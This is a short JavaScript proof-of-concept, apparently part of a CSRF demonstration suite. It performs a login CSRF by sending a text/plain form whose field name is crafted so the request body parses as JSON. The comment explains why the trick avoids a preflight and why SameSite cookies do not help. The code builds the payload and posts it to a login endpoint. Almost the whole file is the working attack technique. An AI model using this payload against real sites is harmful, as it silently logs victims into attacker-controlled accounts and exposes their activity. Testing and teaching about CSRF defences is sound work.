// Login CSRF with a form that needs no preflight: enctype="text/plain" sends `name=value`
// as it is, so a field named `{"username": …, "_":"` with the value `"}` makes the body a
// JSON object. The attacker logs your browser into its own account; none of your cookies
// are needed, so SameSite does not help.

import { config } from "./common.js";
import { forge, loggedInAs } from "./forge.js";

const { username, password } = config.account;
const name = `${JSON.stringify({ username, password }).slice(0, -1)},"_":"`;
await forge({
  method: "POST",
  path: "/api/login/",
  form: { enctype: "text/plain", fields: [[name, '"}']] },
  effect: loggedInAs(username),
});
